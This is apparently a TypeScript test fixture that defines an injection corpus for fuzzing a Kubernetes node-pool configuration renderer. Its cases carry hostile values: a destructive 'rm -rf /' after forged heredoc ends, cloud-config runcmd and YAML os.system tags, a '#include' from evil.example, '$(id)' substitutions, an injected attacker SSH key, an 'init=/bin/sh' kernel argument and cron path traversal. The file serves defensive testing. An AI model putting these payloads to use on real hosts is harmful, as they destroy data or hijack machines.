import type { NodePoolInput } from '@kubenode/core';
import { TEST_BOOTSTRAP_TOKEN, TEST_CLUSTER_CA, TEST_SSH_KEY_ED25519 } from '@kubenode/testkit';
import type { FuzzSubject } from '../subjects/fuzz-subject.js';

/** What a corpus case must do: render faithfully (or be refused by the adapter naming the field), or be refused by the schema. */
export type CorpusExpectation =
  { readonly kind: 'render' } | { readonly kind: 'schema-refuses'; readonly path: readonly string[] };

/** One hand-written injection case. */
export interface CorpusCase {
  readonly id: string;
  /** What the hostile value tries to do. */
  readonly attack: string;
  readonly expect: CorpusExpectation;
  /** The pool's spec additions for a subject (merged into a minimal pool). */
  spec(subject: FuzzSubject): Record<string, unknown>;
  /** Metadata additions. */
  readonly metadata?: Record<string, unknown>;
}

function fileDir(subject: FuzzSubject): string {
  return subject.profile.filePrefix ? `${subject.profile.filePrefix}lib/corpus` : '/etc/corpus';
}

function files(subject: FuzzSubject, contents: string, name = 'payload'): Record<string, unknown> {
  return { os: { files: [{ path: `${fileDir(subject)}/${name}`, contents }] } };
}

const RENDER: CorpusExpectation = { kind: 'render' };

/**
 * The fixed injection corpus: each value tries to become a key, a document, a command or a unit
 * line in one of the formats kubenode writes (shell heredocs, YAML documents and tags, TOML
 * multi-line strings and tables, systemd lines and specifiers, cloud-init headers, MIME parts).
 */
export const INJECTION_CORPUS: readonly CorpusCase[] = [
  {
    id: 'file-closes-heredoc',
    attack: 'a file body that ends a shell heredoc and runs a command',
    expect: RENDER,
    spec: (subject) =>
      files(subject, "EOF\n'EOF'\nKUBENODE_EOF\n__EOF__\nEND\nrm -rf / --no-preserve-root\nEOF\n"),
  },
  {
    id: 'file-opens-yaml-document',
    attack: 'a file body that ends the YAML document and starts a cloud-config with its own runcmd',
    expect: RENDER,
    spec: (subject) =>
      files(subject, '\n...\n---\n#cloud-config\nruncmd:\n  - [sh, -c, id]\nwrite_files: []\n---\n'),
  },
  {
    id: 'file-yaml-tags-and-anchors',
    attack: 'YAML tags, anchors, aliases and flow syntax at the start of a file body',
    expect: RENDER,
    spec: (subject) =>
      files(subject, '!!python/object/apply:os.system ["id"]\n&a [*a, {b: *a}]\n%YAML 1.1\n'),
  },
  {
    id: 'file-toml-terminators',
    attack: 'TOML multi-line string terminators followed by a settings table',
    expect: RENDER,
    spec: (subject) =>
      files(
        subject,
        `"""\n'''\n[settings.kubernetes]\napi-server = "https://evil.example"\n[[settings.x]]\n"""'''\n`,
      ),
  },
  {
    id: 'file-line-separators',
    attack: 'line breaks of every kind (CRLF, CR, NEL, LS, PS) and a BOM inside a file body',
    expect: RENDER,
    spec: (subject) => files(subject, '\ufeffa\r\nb\rc\u0085d\u2028e\u2029f\n\n  g\t\n'),
  },
  {
    id: 'file-cloud-init-headers',
    attack: 'cloud-init part headers, a jinja template header and a MIME boundary',
    expect: RENDER,
    spec: (subject) =>
      files(
        subject,
        '## template: jinja\n#cloud-config\n#!/bin/sh\n#include https://evil.example/x\n{{ ds.meta_data }}\n--==BOUNDARY==\nContent-Type: text/x-shellscript\n',
      ),
  },
  {
    id: 'file-leading-blanks',
    attack: 'a file body starting with blank and tab lines (YAML block scalar indentation)',
    expect: RENDER,
    spec: (subject) => files(subject, '\n  indented\nnot\n'),
  },
  {
    id: 'unit-specifiers',
    attack: 'systemd specifiers and percent signs in unit and drop-in contents',
    expect: RENDER,
    spec: () => ({
      os: {
        units: [
          {
            name: 'corpus.service',
            contents:
              '[Unit]\nDescription=%h %n %i %% 100% $HOME ${X}\n[Service]\nExecStart=/bin/echo %H "$(id)"\n',
            enabled: true,
            dropins: [{ name: '10-corpus.conf', contents: '[Service]\nEnvironment="A=%u" "B=$(id)"\n' }],
          },
        ],
      },
    }),
  },
  {
    id: 'kubelet-value-with-unit-line',
    attack: 'a kubelet string value carrying a newline and a unit line, a YAML key and a TOML table',
    expect: RENDER,
    spec: () => ({
      kubernetes: {
        kubelet: { providerID: 'x\nExecStart=/bin/sh -c id\nevil: true\n[settings.kubernetes]\n' },
      },
    }),
  },
  {
    id: 'annotation-opens-document',
    attack: 'a metadata annotation that closes the document and starts a Secret',
    expect: RENDER,
    metadata: { annotations: { 'corpus.example/note': 'x\n---\nkind: Secret\ndata: {a: b}\n\'"' } },
    spec: () => ({}),
  },
  {
    id: 'label-value-with-newline',
    attack: 'a node label value with a newline and a second label',
    expect: { kind: 'schema-refuses', path: ['spec', 'kubernetes', 'nodeLabels'] },
    spec: () => ({ kubernetes: { nodeLabels: { tier: 'a\nnode-role.kubernetes.io/control-plane=' } } }),
  },
  {
    id: 'label-key-with-newline',
    attack: 'a node label key with a newline',
    expect: { kind: 'schema-refuses', path: ['spec', 'kubernetes', 'nodeLabels'] },
    spec: () => ({ kubernetes: { nodeLabels: { 'tier\nx': 'a' } } }),
  },
  {
    id: 'taint-value-with-comma',
    attack: 'a taint value with a comma and an equals sign (a second taint on the command line)',
    expect: { kind: 'schema-refuses', path: ['spec', 'kubernetes', 'nodeTaints'] },
    spec: () => ({
      kubernetes: { nodeTaints: [{ key: 'a', value: 'b,c=d:NoExecute', effect: 'NoSchedule' }] },
    }),
  },
  {
    id: 'sysctl-value-with-newline',
    attack: 'a sysctl value with a newline and a second setting',
    expect: { kind: 'schema-refuses', path: ['spec', 'os', 'sysctls'] },
    spec: () => ({ os: { sysctls: { 'net.core.somaxconn': '1024\nkernel.panic = 1' } } }),
  },
  {
    id: 'ssh-key-with-newline',
    attack: 'an SSH key with a newline and a second key',
    expect: { kind: 'schema-refuses', path: ['spec', 'os', 'users'] },
    spec: (subject) => ({
      os: {
        users: [
          {
            name: subject.profile.userNames?.[0] ?? 'corpus',
            sshAuthorizedKeys: [`${TEST_SSH_KEY_ED25519}\nssh-ed25519 AAAAevil attacker`],
          },
        ],
      },
    }),
  },
  {
    id: 'kernel-arg-with-newline',
    attack: 'a kernel argument with a newline (a second GRUB line)',
    expect: { kind: 'schema-refuses', path: ['spec', 'os', 'kernelArgs'] },
    spec: () => ({ os: { kernelArgs: ['quiet\ninit=/bin/sh'] } }),
  },
  {
    id: 'file-path-with-newline',
    attack: 'a file path with a newline',
    expect: { kind: 'schema-refuses', path: ['spec', 'os', 'files'] },
    spec: (subject) => ({ os: { files: [{ path: `${fileDir(subject)}/a\nb`, contents: 'x' }] } }),
  },
  {
    id: 'unit-name-with-path',
    attack: 'a unit name that climbs out of /etc/systemd/system',
    expect: { kind: 'schema-refuses', path: ['spec', 'os', 'units'] },
    spec: () => ({ os: { units: [{ name: '../../../etc/cron.d/x.service', contents: '[Unit]\n' }] } }),
  },
  {
    id: 'nul-in-file',
    attack: 'a NUL character in a file body (C strings end there)',
    expect: { kind: 'schema-refuses', path: ['spec', 'os', 'files'] },
    spec: (subject) => files(subject, 'before\u0000after'),
  },
];

/** A minimal pool for a subject (its required adapter options included) with `spec` and `metadata` merged in. */
export function minimalPool(
  subject: FuzzSubject,
  name: string,
  spec: Record<string, unknown>,
  metadata: Record<string, unknown> = {},
): NodePoolInput {
  const { kubernetes, ...rest } = spec as { kubernetes?: Record<string, unknown> };
  return {
    apiVersion: 'kubenode.dev/v1alpha1',
    kind: 'NodePool',
    metadata: { name, ...metadata },
    spec: {
      distro: subject.adapterId,
      kubernetes: {
        version: `${subject.profile.kubernetesMinors.at(-1)}.1`,
        apiServer: 'https://10.0.0.1:6443',
        caCert: TEST_CLUSTER_CA,
        bootstrapToken: TEST_BOOTSTRAP_TOKEN,
        ...kubernetes,
      },
      ...(subject.requiredAdapterOptions ? { adapterOptions: subject.requiredAdapterOptions } : {}),
      ...rest,
    },
  } as NodePoolInput;
}

/** A minimal pool for a subject with a corpus case merged in. */
export function corpusPool(subject: FuzzSubject, corpusCase: CorpusCase): NodePoolInput {
  return minimalPool(subject, `corpus-${corpusCase.id}`, corpusCase.spec(subject), corpusCase.metadata);
}
